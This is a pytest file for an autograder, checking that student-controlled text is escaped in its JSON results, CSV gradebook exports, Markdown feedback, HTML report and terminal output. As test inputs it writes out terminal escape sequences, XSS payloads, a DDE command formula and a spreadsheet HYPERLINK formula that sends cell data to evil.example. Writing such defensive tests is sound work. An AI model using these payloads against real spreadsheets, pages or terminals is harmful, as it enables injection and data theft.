"""Attacks on the grader's outputs through the text a student controls (autograder/text.py):
exception messages and returned values with lone surrogates and terminal escapes, huge
returned values, formulas and Markdown/HTML in file names. Each output is attacked where
it is written: results.json, the CSV files, feedback.md, report.html and the terminal.
(test_bulk.py's test_a_class_of_attackers_... runs them all through one class.)"""
import csv
import io
import json
import re
import subprocess
import sys

import pytest

from autograder import report, similarity
from autograder.gradebook import canvas, gradebook, moodle
from autograder.grade import write_results
from autograder.roster import Entry, parse_name
from autograder.settings import load as load_settings
from autograder.text import MAX_RESULTS, bounded, csv_text, html_value, md_block, md_code, md_text, printable

SETTINGS = load_settings()
MAX = sum(SETTINGS["points"].values())
HOSTILE = "bad \ud800 \x1b[2J\x1b[H\r100 / 100 \x9b31m \u202eevil \x00 <img src=x onerror=alert(1)>"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")


def test_printable_shows_every_control_and_invalid_character_and_keeps_lines():
    shown = printable(HOSTILE + "\nnext\tline")
    assert not CONTROL.search(shown)
    assert "\\x1b[2J" in shown and "\\ud800" in shown and "\\x0d100" in shown and "\\x9b" in shown
    assert "\\u202e" in shown and shown.endswith("\nnext\tline")
    assert printable(shown) == shown                                     # shown once, never twice
    assert printable("a\nb\tc", inline=True) == "a\\x0ab\\x09c"
    assert printable("张三 \udcd5") == "张三 \\xd5"                       # a byte that was not UTF-8


def results_with(text, tests=15):
    return {"score": 0, "output": text, "status": "graded",
            "tests": [{"name": f"f{i}: check", "score": 0, "max_score": 1, "output": text,
                       "failure": {"what": [text], "returned": text}} for i in range(tests)]}


def test_results_json_with_lone_surrogates_is_written(tmp_path):
    written = write_results(results_with(HOSTILE), tmp_path)       # UnicodeEncodeError without text.bounded
    raw = (tmp_path / "results.json").read_bytes()
    data = json.loads(raw.decode("utf-8"))
    assert data == written and "\\ud800" in data["output"] and "\\x1b[2J" in data["tests"][0]["output"]
    assert not CONTROL.search(json.dumps(data, ensure_ascii=False))


def test_fifteen_returned_values_of_15_mb_give_a_results_json_under_1_mb(tmp_path):
    write_results(results_with("A" * 15_000_000), tmp_path)
    size = (tmp_path / "results.json").stat().st_size
    data = json.loads((tmp_path / "results.json").read_text(encoding="utf-8"))
    assert size < MAX_RESULTS
    assert len(data["tests"]) == 15 and all(re.search(r"… \(\d+ bytes more\)$", t["output"]) for t in data["tests"])
    assert data["tests"][0]["output"].startswith("AAAA")


def test_a_list_a_student_makes_long_is_cut_too():
    data = bounded({"extra_data": {"submission": [f"file{i}.py" for i in range(100_000)]}})
    names = data["extra_data"]["submission"]
    assert len(names) < 1000 and names[-1].endswith("more)")


# ------------------------------------------------------------------ CSV

def rows(text):
    return list(csv.reader(io.StringIO(text)))


def formulas(text):
    return [c for row in rows(text) for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not re.fullmatch(r"[+-]?[0-9.]+", c)]


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def record(filename, machine=None, superseded=()):
    name = parse_name(filename)
    entry = Entry(student=name.student, names=(filename,), late=False, superseded=superseded, name=name,
                  refused=None if machine else ("bad-zip", "why"))
    return {"student": name.student, "entry": entry, "overrides": [],
            "data": {"status": "graded" if machine else "bad-zip", "output": HOSTILE, "tests": []},
            "final": ({"score": 1, "raw": 1, "late_penalty": 0, "override_points": 0, "overrides": [],
                       "functions": {}} if machine else None)}


def test_similarity_csv_quotes_a_formula_in_a_student_id():
    pairs = [similarity.Pair(EVIL + "_1", "=cmd|' /C calc'!A0_2", 0.9)]
    text = similarity.to_csv(pairs)
    assert formulas(text) == [] and rows(text)[1][0] == "'" + EVIL + "_1"


def test_every_csv_cell_is_one_printable_line_and_no_formula():
    records = [record(f"{EVIL}_1_2_two_layer_net.py", machine=True, superseded=("-2+3+cmd\x1b[2J\n.py",)),
               record("@SUM(A1)_3_4_two_layer_net.zip")]
    for text in (gradebook(records, MAX), canvas(records, MAX, "t"), moodle(records, MAX),
                 csv_text(["a"], [[HOSTILE]])):
        assert formulas(text) == [] and not CONTROL.search(text.replace("\r\n", ""))
        assert "\n" not in text.replace("\r\n", "")


# ------------------------------------------------------------------ Markdown and HTML

def rendered(markdown):
    """feedback.md as a viewer that allows raw HTML renders it."""
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark").render(markdown)


IMG = "x`<img src=x onerror=alert(1)>`.py"


def test_markdown_helpers_keep_student_text_out_of_the_markup():
    raw = "<img src=x onerror=alert(1)> [x](javascript:alert(1)) &lt;"
    assert "<img" not in rendered(md_text(raw)) and "href" not in rendered(md_text(raw))
    assert "&amp;lt;" in rendered(md_text(raw))
    for made in (md_code(IMG), md_text(IMG), md_block("```\n" + IMG + "\n```"), md_code("``" + IMG)):
        html = rendered(made)
        assert "<img" not in html and "onerror=alert(1)" in html


def test_feedback_shows_names_outputs_and_import_errors_as_text():
    superseded = (f"eve_7_70_{IMG}", "eve_7_71_a\x1b[2Jb.py")
    rec = record("eve_7_72_two_layer_net.py", machine=True, superseded=superseded)
    rec["data"]["fix_first"] = {"what": "import", "message": "ImportError: <img src=x onerror=alert(1)> \x1b[2J"}
    text = report.feedback(rec, MAX)
    html = rendered(text)
    assert "<img" not in html and "onerror=alert(1)" in html and not CONTROL.search(text)
    refused = report.feedback(record("mallory_8_80_two_layer_net.zip"), MAX)
    assert "<img" not in rendered(refused) and not CONTROL.search(refused) and "\\x1b[2J" in refused


def test_feedback_is_capped():
    rec = record("big_9_90_two_layer_net.py", machine=True)
    rec["data"]["tests"] = [{"name": f"f: c{i}", "score": 0, "max_score": 1, "output": "A" * 100_000}
                            for i in range(20)]
    text = report.feedback(rec, MAX)
    assert len(text.encode()) < 500_000 and re.search(r"… \(\d+ bytes more\)$", text)


def test_report_html_holds_no_student_markup_or_control_character():
    records = [record(f"{EVIL}_1_2_two_layer_net.py", machine=True, superseded=(IMG,)),
               record("bob\x1b[2J_3_4_two_layer_net.zip")]
    page = report.html(records, MAX, SETTINGS, source="class\x1b[2J<script>x</script>")
    assert "<img src=x" not in page and "<script>x" not in page and not CONTROL.search(page)
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert 'src="data:image/png;base64,' in page and "bytes more" not in page     # the report's own plots are whole


# ------------------------------------------------------------------ the terminal

def test_grade_prints_an_import_error_without_obeying_its_escapes(tmp_path):
    path = tmp_path / "two_layer_net.py"
    path.write_text("def _boom():\n    raise ImportError('\\x1b[2J\\x1b[H\\r100 / 100 \\ud800 \\x9b31m')\n"
                    "H = _boom()\ndef sigmoid(x):\n    return H\n", encoding="utf-8")
    run = subprocess.run([sys.executable, "-m", "autograder", "grade", str(path), "--out", str(tmp_path / "out")],
                         capture_output=True, timeout=300)
    assert run.returncode == 0, run.stderr.decode(errors="replace")
    out = run.stdout.decode("utf-8")
    assert "could not be imported" in out and "\\x1b[2J" in out and "\\ud800" in out
    assert not CONTROL.search(out) and "\x1b" not in out and "\r" not in out


def test_the_code_of_a_similar_pair_is_capped_in_the_report():
    source = "".join(f"def f{i}(x):\n    return x * {i} + {i * 7} - {i % 13}\n" for i in range(3000))
    prints = similarity.fingerprints({"a_1": source, "b_2": source + "\x1b[2J = 1\n"}, skeleton="")
    code_a, code_b = report.similarity_code(prints, {"student_a": "a_1", "student_b": "b_2"})
    for code in (code_a, code_b):
        assert len(source) > 110_000 and len(code.encode()) < 105_000 and "bytes more)" in code
        assert code.count("<mark>") == code.count("</mark>") and not CONTROL.search(html_value(code))
